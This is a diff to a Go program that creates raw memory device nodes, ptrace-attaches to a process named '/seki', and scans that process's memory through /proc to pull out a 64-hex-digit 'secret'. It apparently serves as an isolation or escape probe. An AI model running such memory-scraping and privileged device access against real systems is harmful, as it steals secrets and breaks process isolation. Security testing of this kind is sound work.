@@ -2,15 +2,13 @@ package main
 
 import (
 	"bytes"
+	"encoding/hex"
 	"errors"
 	"fmt"
-	"io"
 	"os"
 	"path/filepath"
-	"regexp"
 	"strconv"
 	"strings"
-	"time"
 
 	"golang.org/x/sys/unix"
 )
@@ -39,7 +37,7 @@ func root([]string) error {
 		try(path, func() error { return read(path) })
 	}
 	for _, device := range []struct{ major, minor uint32 }{{1, 1}, {1, 2}, {98, 0}} { // mem, kmem, ubda
-		path := fmt.Sprintf("/tmp/device-%d-%d", device.major, device.minor)
+		path := fmt.Sprintf("/dev/device-%d-%d", device.major, device.minor)
 		try("device "+path, func() error {
 			if err := unix.Mknod(path, unix.S_IFCHR|0o600, int(unix.Mkdev(device.major, device.minor))); err != nil {
 				return err
@@ -156,32 +154,25 @@ func attach(pid int) error {
 	} else if who != "/seki" {
 		return fmt.Errorf("process %d is %s", pid, filepath.Base(who))
 	}
-	if err := unix.PtraceSeize(pid); err != nil {
-		return err
-	}
-	return unix.PtraceDetach(pid)
+	return unix.PtraceSeize(pid) // until this program ends
 }
 
-var secretWords = regexp.MustCompile(`"secret":"([0-9a-f]{64})"`)
+var secretWord = []byte(`"secret":"`)
 
-// stolen is the machine's secret, from the memory of whatever process has it.
+// stolen is the machine's secret, from the memory of the agent, if it is seen.
 func stolen() (string, error) {
-	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); {
-		procs, err := filepath.Glob("/proc/[0-9]*/maps")
-		if err != nil {
-			return "", err
-		}
-		for _, maps := range procs {
-			if who, _ := os.Readlink(filepath.Dir(maps) + "/exe"); who != "/seki" {
-				continue
-			}
+	all, err := filepath.Glob("/proc/[0-9]*/maps")
+	if err != nil {
+		return "", err
+	}
+	for _, maps := range all {
+		if who, _ := os.Readlink(filepath.Dir(maps) + "/exe"); who == "/seki" {
 			if m := search(maps); m != "" {
 				return m, nil
 			}
 		}
-		return "", errors.New("no process has it")
 	}
-	return "", errors.New("not found in time")
+	return "", errors.New("no process has it")
 }
 
 // search looks through the memory of a process.
@@ -201,10 +192,23 @@ func search(maps string) string {
 		if n, _ := fmt.Sscanf(line, "%x-%x %s", &from, &to, &perm); n != 3 || !strings.HasPrefix(perm, "rw") || to-from > 64<<20 {
 			continue
 		}
-		b, err := io.ReadAll(io.NewSectionReader(mem, from, to-from))
-		if m := secretWords.FindSubmatch(b); m != nil && (err == nil || len(b) > 0) {
-			return string(m[1])
+		b := make([]byte, to-from)
+		n, _ := mem.ReadAt(b, from) // what can be read of it
+		for b = b[:n]; ; b = b[1:] {
+			i := bytes.Index(b, secretWord)
+			if i < 0 {
+				break
+			}
+			b = b[i:]
+			if w := b[min(len(secretWord), len(b)):min(len(secretWord)+64, len(b))]; isHex(w) {
+				return string(w)
+			}
 		}
 	}
 	return ""
+}
+
+func isHex(b []byte) bool {
+	_, err := hex.DecodeString(string(b))
+	return err == nil && len(b) == 64
 }
